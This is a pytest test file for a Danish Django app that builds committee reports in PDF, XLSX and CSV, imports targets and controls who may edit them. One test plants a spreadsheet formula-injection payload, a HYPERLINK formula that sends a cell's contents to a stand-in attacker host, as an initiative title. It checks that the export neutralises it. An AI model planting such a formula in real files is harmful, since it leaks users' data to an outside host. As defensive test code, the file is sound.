"""The committee report (PDF/XLSX/CSV), target import and the target pages."""

import csv
import io

import pytest
from django.core.management import CommandError, call_command
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader

from sporbar.effects import report
from sporbar.effects.models import Target
from sporbar.plans.models import BudgetLine, Spending, StatusUpdate

pytestmark = pytest.mark.django_db


@pytest.fixture
def data(org, plan, build):
    build.improving(plan.kids, org.centre_a, 15)
    build.worsening(plan.kids, org.centre_a, 5)
    build.improving(plan.young, org.centre_b, 3)
    build.improving(plan.job, org.centre_a, 6)  # hidden too, so the track total cannot reveal the young
    Target.objects.create(
        figure="maal",
        dimension="personlig",
        scope_kind="target_group",
        target_category="boern",
        year=2025,
        share="0.75",
    )
    BudgetLine.objects.create(initiative=plan.kids, year=2025, amount=1_500_000)
    Spending.objects.create(initiative=plan.kids, date="2025-03-01", amount=250_000)
    StatusUpdate.objects.create(
        initiative=plan.kids, date="2025-06-01", status="i_gang", light="groen", narrative="Godt i gang med familierne."
    )
    return plan


def test_pdf_report_has_the_pages_and_numbers(org, data, client_for):
    response = client_for(org.leadership).get(f"/planer/{data.id}/effekt/rapport.pdf")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    pdf = PdfReader(io.BytesIO(response.content))
    assert len(pdf.pages) >= 3  # initiatives, figures against targets, trend charts
    text = "\n".join(page.extract_text() for page in pdf.pages)
    assert "Statusrapport til udvalget: Testplanen" in text
    assert "Godt i gang med familierne." in text
    assert "1,5 mio. kr." in text and "0,3 mio. kr." in text
    # 15 of 20: 75 % with the Wilson interval 53 %–89 % against the target 75 %
    assert "15 af 20" in text and "53 %–89 %" in text and "kan ikke afgøres" in text
    assert "færre end 5" in text and "\n3 af 3" not in text and " 3 af 3 " not in text


def test_xlsx_and_csv_hold_the_same_figures(org, data):
    book = load_workbook(io.BytesIO(report.build(data, org.leadership, "xlsx")))
    rows = list(book["Nøgletal"].iter_rows(values_only=True))
    kids = next(r for r in rows if r[1] == "Børneindsatsen" and r[3] == "personlig udvikling")
    assert kids[5:8] == (15, 20, 0.75) and kids[10] == 0.75 and kids[11] == "kan ikke afgøres"
    young = next(r for r in rows if r[1] == "Ungeindsatsen")
    assert young[5] == "færre end 5" and young[7] is None
    text = report.build(data, None, "csv").decode("utf-8-sig")
    assert "Børneindsatsen;mål nået eller forbedret;personlig udvikling;2025;15;20;75,0 %;53,1 %;88,8 %;75,0 %" in text
    assert "Ungeindsatsen;mål nået eller forbedret;personlig udvikling;2025;færre end 5;færre end 5;;;" in text


def test_an_initiative_titled_as_a_formula_stays_text_in_xlsx_and_csv(org, data):
    hostile = '=HYPERLINK("http://angriber.example/?x="&B2;"Se tal")'
    data.kids.title = hostile
    data.kids.save()
    StatusUpdate.objects.create(
        initiative=data.kids, date="2025-07-01", status="i_gang", light="groen", narrative="@SUM(1)"
    )
    book = load_workbook(io.BytesIO(report.build(data, org.leadership, "xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert hostile in [c.value for c in cells] and "@SUM(1)" in [c.value for c in cells]
    text = report.build(data, org.leadership, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'" + hostile in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]


def test_report_command_writes_a_file(org, data, tmp_path):
    target = tmp_path / "rapport.csv"
    call_command("report", "--plan", str(data.id), "--format", "csv", "-o", str(target), stdout=io.StringIO())
    assert "Børneindsatsen" in target.read_text(encoding="utf-8-sig")


def test_import_targets_is_idempotent_and_line_precise(org, tmp_path):
    good = tmp_path / "maal.csv"
    good.write_text(
        "figur;dimension;niveau;id;maalgruppe;aar;maal\n"
        "maal;personlig;target_group;;boern;2026;75 %\n"
        "maal;netvaerk;target_group;;boern;2026;0,8\n",
        encoding="utf-8",
    )
    call_command("import_targets", str(good), stdout=io.StringIO())
    call_command("import_targets", str(good), stdout=io.StringIO())
    assert Target.objects.count() == 2
    assert str(Target.objects.get(dimension="netvaerk").share) == "0.800"
    bad = tmp_path / "forkert.csv"
    bad.write_text(
        "figur;dimension;niveau;id;maalgruppe;aar;maal\n"
        "maal;laering;target_group;;boern;2026;70 %\n"
        "maal;personlig;target_group;;boern;2026;mange\n",
        encoding="utf-8",
    )
    with pytest.raises(CommandError, match="forkert.csv, linje 3, felt »maal«"):
        call_command("import_targets", str(bad), stdout=io.StringIO())
    assert Target.objects.count() == 2  # nothing from the bad file
    book = Workbook()
    book.active.append(["figur", "dimension", "niveau", "id", "maalgruppe", "aar", "maal"])
    book.active.append(["selv", "laering", "plan", 1, None, 2026, 0.7])
    xlsx = tmp_path / "maal.xlsx"
    book.save(xlsx)
    call_command("import_targets", str(xlsx), stdout=io.StringIO())
    assert Target.objects.filter(figure="selv", scope_kind="plan", scope_id=1).exists()


def test_only_analysts_and_admins_edit_targets(org, client_for):
    form = {
        "figure": "maal",
        "dimension": "personlig",
        "scope_kind": "target_group",
        "scope_id": "",
        "target_category": "unge",
        "year": "2026",
        "share": "0.7",
        "note": "",
    }
    assert client_for(org.leadership).post("/effektmaal/ny/", form).status_code == 403
    assert client_for(org.lead_a).post("/effektmaal/ny/", form).status_code == 403
    assert client_for(org.analyst).post("/effektmaal/ny/", form).status_code == 302
    assert Target.objects.get().target_category == "unge"
    assert "70 %" in client_for(org.leadership).get("/effektmaal/").content.decode()
